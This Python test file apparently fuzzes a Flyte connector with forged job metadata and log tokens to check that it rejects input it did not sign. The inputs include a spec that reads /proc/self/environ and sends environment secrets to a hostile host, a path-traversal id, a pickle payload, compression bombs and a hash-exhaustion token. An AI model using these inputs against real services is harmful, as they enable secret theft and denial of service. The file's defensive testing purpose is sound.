"""What Flyte keeps of a job, and what it hands in to read a log: made up by the attacker."""

from __future__ import annotations

import base64
import json
import os
import pickle
import random
import zlib
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from flyteidl2.core.security_pb2 import Connection

from tests.integration.attack.attacker import Attacker, forged
from tests.integration.attack.cases.base import MB, Attack, case, once
from tests.integration.attack.secrets_planted import SIGNING_KEY
from yaml_connector._jobs.meta import JobMeta
from yaml_connector._jobs.placeholders import hash_of_secret
from yaml_connector._jobs.signing import Signer


def signed_by(key: str, task_type: str = "plain", **fields: Any) -> bytes:
    """A meta that is signed with a key."""
    return JobMeta(task_type, id="1", created_at=1.0, name="x", **fields).encode(Signer((key.encode(),)))


def raw(**fields: Any) -> bytes:
    """A meta without a signature."""
    given = {"v": 2, "task_type": "plain", "id": "1", "created_at": 1.0, "name": "x", **fields}
    return json.dumps(given).encode()


EVIL = {
    "spec_version": 1,
    "task_type_name": "plain",
    "connection": {"base_url": "${{ env.HOSTILE }}", "headers": {"X-Env": "${{ env.OTHER_SECRET }}"}},
    "secrets": {"o": {"file": "/proc/self/environ"}},
    "create": {"request": "POST /", "job_id": "$"},
    "get": {"request": "GET /jobs/1", "phase": {"is": "RUNNING"}, "message": "${{ secrets.o | reverse }}"},
}


def metas() -> list[bytes]:
    """Metas that the service did not make."""
    packed = base64.b64encode(zlib.compress(json.dumps(EVIL).encode())).decode()
    right = signed_by(SIGNING_KEY)
    return [
        raw(digest="d" * 64, snapshot=packed),
        raw(snapshot=base64.b64encode(zlib.compress(b" " * 200 * MB)).decode()),
        raw(id="/../../admin", saved={"id": {}}),
        raw(config={"region": "../other"}),
        signed_by("a-key-of-somebody-else-0123456789abcdef", snapshot=packed),
        right[:-3] + b'A"}',
        right.replace(b'"id":"1"', b'"id":"2"'),
        right + b" ",
        right[: len(right) // 2],
        b"",
        b"null",
        b"[]",
        b"\xff\xfe" * 50,
        b'{"v":2}',
        b'{"v":' + b"9" * 4000 + b"}",
        raw(created_at=float("nan")),
        raw(created_at=float("inf")),
        raw(created_at=-1e300),
        raw(outputs=[["result", "list[" * 50 + "str" + "]" * 50]]),
        pickle.dumps(EVIL),
    ]


def large_metas() -> list[bytes]:
    """Metas as large as the service takes, and as gRPC takes."""
    nearly, most = 1_000_000, 3_900_000
    return [
        b'{"v":2,"saved":{"a":' + b"[" * (nearly // 2) + b"]" * (nearly // 2 - 50) + b"}}",
        b'{"v":2,"created_at":' + b"9" * nearly + b"}",
        raw(name="x" * nearly),
        raw(outputs=[[f"o{number}", "str"] for number in range(50_000)]),
        raw(saved={f"k{number}": number for number in range(60_000)}),
        b'{"v":2,' + b'"a":1,' * (nearly // 6) + b'"a":1}',
        raw(name="x" * most),
        b"[" * most,
        os.urandom(most),
        raw(snapshot=base64.b64encode(os.urandom(2_500_000)).decode()),
    ]


def each(task_type: str, made: Callable[[], list[bytes]], *calls: str) -> Attack:
    """Hand in one of the metas, at random, with one of the calls."""
    kept = once(made)

    def attack(attacker: Attacker) -> None:
        getattr(attacker, random.choice(calls))(forged(task_type, random.choice(kept())))

    return attack


def tokens() -> list[str]:
    """Log tokens that the service did not give."""
    return [
        "x",
        "0",
        "\x00",
        "next",
        base64.urlsafe_b64encode(b'{"v":1,"at":1e999}').decode(),
        base64.urlsafe_b64encode(b"[" * 100_000).decode(),
        base64.urlsafe_b64encode(b'{"a":' * 100_000 + b"1" + b"}" * 100_000).decode(),
        base64.urlsafe_b64encode(b"9" * 1_000_000).decode(),
        base64.urlsafe_b64encode(zlib.compress(b"[" * 100 * MB)).decode(),
        "x" * 3_900_000,
        "é💥" * 300_000,
    ]


def with_token(attacker: Attacker) -> None:
    """Read the log of an honest job from a made-up token on."""
    made = attacker.create(random.choice(("plain", "text", "sse")), "quiet-1")
    attacker.logs(made, random.choice(cached_tokens()))


cached_tokens = once(tokens)


def with_secrets(attacker: Attacker) -> None:
    """Delete an honest job with secrets as large as gRPC takes: the service remembers those of a job."""
    made = attacker.create("plain", f"quiet-{random.getrandbits(40)}")
    attacker.delete(replace(made, connection=Connection(secrets={"api_key": os.urandom(1_500_000).hex()})))


@once
def place_holders() -> str:
    """A token that wants a slow hash for each of many place holders, all of the secret that the attacker sends."""
    salts = [f"{number:016x}" for number in range(300)]
    holders = {f"***{salt}-{salt}***": ["api_key", "plain", hash_of_secret("mine", salt)] for salt in salts}
    return base64.urlsafe_b64encode(json.dumps({"***": holders}).encode()).decode()


def with_place_holders(attacker: Attacker) -> None:
    """Read the log of an honest job with a secret of the attacker's own, from such a token on."""
    attacker.logs(attacker.create("plain", "quiet-1", secrets={"api_key": "mine"}), place_holders())


def _unknown_type(attacker: Attacker) -> None:
    attacker.get(forged("nosuch" + os.urandom(20).hex() + "x" * random.choice((1, 1000, 100_000)), b"{}"))


case("forged metas", each("plain", metas, "get", "delete", "logs"))
case("large metas", each("plain", large_metas, "get", "delete", "logs"))
case("forged tokens", with_token)
case("secrets of a delete", with_secrets)
case("place holders", with_place_holders)
case("made-up task types", _unknown_type)
